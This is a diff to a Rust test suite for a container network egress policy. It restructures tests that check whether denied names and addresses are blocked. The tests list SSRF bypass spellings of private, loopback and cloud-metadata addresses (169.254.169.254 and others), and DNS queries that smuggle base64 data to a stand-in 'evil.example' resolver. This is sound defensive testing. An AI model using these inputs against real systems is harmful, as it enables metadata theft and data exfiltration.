@@ -13,7 +13,7 @@ use std::path::Path;
 use std::time::Duration;
 
 use common::until;
-use world::{Log, curl, dig, guest, policy, programs, with_world};
+use world::{Log, curl, dig, guest, programs, with_world};
 
 /// Names below `good.example`, on the web's ports.
 const GOOD: &str = r#"egress-default = "deny"
@@ -63,12 +63,13 @@ fn another_name_at_an_allowed_address_sends_nothing() {
         ("-m 1 telnet://www.good.example:80", "ended before it said a name"),
     ];
     with_world(ALL, async |net, world| {
-        let log = Log::start();
         // The same without a policy, as far as a web server answers to it.
         for (arguments, _) in &attempts[..6] {
             curl(net, world, arguments).unwrap_or_else(|error| panic!("{arguments}: {error}"));
         }
-        net.policy.replace(policy(GOOD)).unwrap();
+    });
+    with_world(GOOD, async |net, world| {
+        let log = Log::start();
         for (arguments, words) in attempts {
             // The address is pinned: the name decides.
             assert!(dig(net, world, "www.good.example").contains("93.184.215.14"));
@@ -111,12 +112,12 @@ fn an_address_by_heart_is_not_even_dialled() {
 #[test]
 fn a_name_does_not_lead_inside() {
     with_world(ALL, async |net, world| {
-        let log = Log::start();
         curl(net, world, "http://rebind.good.example/").unwrap();
         curl(net, world, "http://meta.good.example/").unwrap();
         curl(net, world, "http://host.good.example:8081/").unwrap();
-        net.policy.replace(policy(GOOD)).unwrap();
-        world.forget();
+    });
+    with_world(GOOD, async |net, world| {
+        let log = Log::start();
         for name in ["rebind", "loop", "host", "meta", "meta6", "mapped", "nat64", "mixed"] {
             for question in ["A", "AAAA"] {
                 let answer = dig(net, world, &format!("{question} {name}.good.example"));
@@ -143,36 +144,36 @@ fn a_name_does_not_lead_inside() {
 /// "Metadata addresses", "loopback and private ranges through every spelling", "IPv6-mapped addresses", the host alias, the gateway.
 #[test]
 fn no_spelling_of_the_inside_passes() {
+    let inside = [
+        "http://10.9.8.7/",
+        "http://168364039/",
+        "http://0xa090807/",
+        "http://012.011.010.07/",
+        "http://10.591879/",
+        "http://[::ffff:10.9.8.7]/",
+        "http://[::ffff:a09:807]/",
+        "http://[64:ff9b::10.9.8.7]/",
+        "http://[2002:a09:807::1]/",
+        "http://169.254.169.254/",
+        "http://2852039166/",
+        "http://[::ffff:169.254.169.254]/",
+        "http://[fd00:ec2::254]/",
+        "http://198.19.68.254:8081/",
+        "http://[fd64:686f:7700::fe]:8081/",
+        "http://198.19.68.1:8081/",
+        "http://host.docker.internal:8081/",
+        "http://gateway.docker.internal:8081/",
+        "http://[fd12:3456::7]/",
+        // The host by its own address, which is nobody's private one.
+        "http://203.0.113.1:8082/",
+        "http://[2001:db8:113::1]:8082/",
+    ];
     with_world(ALL, async |net, world| {
-        let inside = [
-            "http://10.9.8.7/",
-            "http://168364039/",
-            "http://0xa090807/",
-            "http://012.011.010.07/",
-            "http://10.591879/",
-            "http://[::ffff:10.9.8.7]/",
-            "http://[::ffff:a09:807]/",
-            "http://[64:ff9b::10.9.8.7]/",
-            "http://[2002:a09:807::1]/",
-            "http://169.254.169.254/",
-            "http://2852039166/",
-            "http://[::ffff:169.254.169.254]/",
-            "http://[fd00:ec2::254]/",
-            "http://198.19.68.254:8081/",
-            "http://[fd64:686f:7700::fe]:8081/",
-            "http://198.19.68.1:8081/",
-            "http://host.docker.internal:8081/",
-            "http://gateway.docker.internal:8081/",
-            "http://[fd12:3456::7]/",
-            // The host by its own address, which is nobody's private one.
-            "http://203.0.113.1:8082/",
-            "http://[2001:db8:113::1]:8082/",
-        ];
         for url in inside {
             curl(net, world, url).unwrap_or_else(|error| panic!("{url}: {error}"));
         }
-        net.policy.replace(policy(OUTSIDE)).unwrap();
-        world.forget();
+    });
+    with_world(OUTSIDE, async |net, world| {
         for url in inside {
             assert!(curl(net, world, url).is_err(), "{url}");
         }
@@ -191,14 +192,14 @@ fn no_spelling_of_the_inside_passes() {
 #[test]
 fn no_question_reaches_another_server_or_a_denied_zone() {
     with_world(ALL, async |net, world| {
-        let log = Log::start();
         for arguments in
             ["@93.184.215.15 x.evil.example", "+tcp @93.184.215.15 x.evil.example", "x.evil.example"]
         {
             assert!(dig(net, world, arguments).contains("93.184.215.15"), "{arguments}");
         }
-        net.policy.replace(policy(GOOD)).unwrap();
-        world.forget();
+    });
+    with_world(GOOD, async |net, world| {
+        let log = Log::start();
         for arguments in [
             "@93.184.215.15 c2VjcmV0.evil.example",
             "+tcp @93.184.215.15 c2VjcmV0.evil.example",
@@ -267,20 +268,23 @@ for attempt in range(3):
         pass
 sys.exit(1)\"";
     with_world(ALL, async |net, world| {
-        let log = Log::start();
         assert!(guest(net, world, ECHO).status.success());
-        net.policy.replace(policy(GOOD)).unwrap();
-        world.forget();
+    });
+    with_world(GOOD, async |net, world| {
+        let log = Log::start();
         assert!(!guest(net, world, ECHO).status.success());
         assert!(!world.saw("datagram"), "{}", world.log());
         log.tells(&["udp to 93.184.215.14:443: denied by the default"]).await;
-        let udp = r#"egress-default = "deny"
+    });
+    let udp = r#"egress-default = "deny"
 egress = [{ action = "allow", name = "good.example" }]"#;
-        net.policy.replace(policy(udp)).unwrap();
+    let words = "{ action = \"allow\", check = \"address\", name = \"good.example\", ports = 443, protocol = \"udp\" }";
+    with_world(udp, async |net, world| {
+        let log = Log::start();
         assert!(!guest(net, world, ECHO).status.success());
-        let words = "{ action = \"allow\", check = \"address\", name = \"good.example\", ports = 443, protocol = \"udp\" }";
         log.tells(&["udp to 93.184.215.14:443 (good.example)", "by TCP it would", words]).await;
-        net.policy.replace(policy(&udp.replace('[', &format!("[{words}, ")))).unwrap();
+    });
+    with_world(&udp.replace('[', &format!("[{words}, ")), async |net, world| {
         assert!(guest(net, world, ECHO).status.success());
     });
 }
@@ -330,30 +334,35 @@ print(s.recv(100))\"";
 /// Spec 12.4: the rule that a denial names is the one that allows it.
 #[test]
 fn the_rule_in_the_log_can_be_put_into_the_configuration() {
-    with_world(r#"egress-default = "deny""#, async |net, world| {
-        let log = Log::start();
-        let mut rules: Vec<String> = Vec::new();
-        // Each failure names one rule more.
-        for _ in 0..4 {
-            if curl(net, world, "-4 http://evil.example/").is_ok() {
-                break;
+    let log = Log::start();
+    let mut rules: Vec<String> = Vec::new();
+    let mut reached = false;
+    // Each failure names one rule more.
+    for _ in 0..4 {
+        let section = format!("egress-default = \"deny\"\negress = [{}]", rules.join(", "));
+        with_world(&section, async |net, world| {
+            reached = curl(net, world, "-4 http://evil.example/").is_ok();
+            if reached {
+                assert!(curl(net, world, "http://93.184.215.14/").is_err());
             }
-            let rule = log
-                .denials()
-                .iter()
-                .rev()
-                .filter(|line| line.contains("evil.example") || line.contains("93.184.215.15"))
-                .find_map(|line| line.split_once(": { ")?.1.split_once(" }"))
-                .map(|(rule, _)| format!("{{ {rule} }}"))
-                .unwrap();
-            rules.insert(0, rule);
-            let section = format!("egress-default = \"deny\"\negress = [{}]", rules.join(", "));
-            net.policy.replace(policy(&section)).unwrap();
+        });
+        if reached || !programs() {
+            break;
         }
-        curl(net, world, "-4 http://evil.example/").unwrap();
+        let rule = log
+            .denials()
+            .iter()
+            .rev()
+            .filter(|line| line.contains("evil.example") || line.contains("93.184.215.15"))
+            .find_map(|line| line.split_once(": { ")?.1.split_once(" }"))
+            .map(|(rule, _)| format!("{{ {rule} }}"))
+            .unwrap();
+        rules.insert(0, rule);
+    }
+    if programs() {
+        assert!(reached);
         assert_eq!(rules, ["{ action = \"allow\", name = \"evil.example\" }"]);
-        assert!(curl(net, world, "http://93.184.215.14/").is_err());
-    });
+    }
 }
 
 /// Issue 3, "rules by direction": a client that a rule denies does not reach the container, whatever its port is published as.
